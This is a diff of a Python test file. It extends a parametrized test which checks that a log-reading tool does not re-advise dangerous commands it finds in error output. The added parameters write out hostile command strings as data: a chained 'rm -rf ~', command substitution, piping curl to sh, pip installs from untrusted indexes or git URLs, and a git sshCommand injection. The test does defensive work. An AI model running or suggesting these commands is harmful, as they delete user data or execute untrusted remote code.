@@ -207,7 +207,13 @@ def test_what_the_tool_itself_says_is_the_first_command(log: str, command: str) 
     assert report.hints
 
 
-@pytest.mark.parametrize("hint", ["pip install x; rm -rf ~", "git clone $(id)", "curl https://x.y | sh"])
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "pip install x; rm -rf ~", "git clone $(id)", "curl https://x.y | sh", "pip install --index-url http://x.y z",
+        "pip install git+https://x.y/z", "git -c core.sshCommand=touch fetch", "uv run x", "uvx x",
+    ],
+)  # fmt: skip
 def test_what_could_start_anything_else_is_not_advised_again(hint: str) -> None:
     report = look(f"error: the widget broke; run `{hint}`\n$ {hint}\nERROR: No matching distribution found for torch\n")
     assert not [command for command in (*report.findings[0].fix, *report.next_steps) if hint in command]
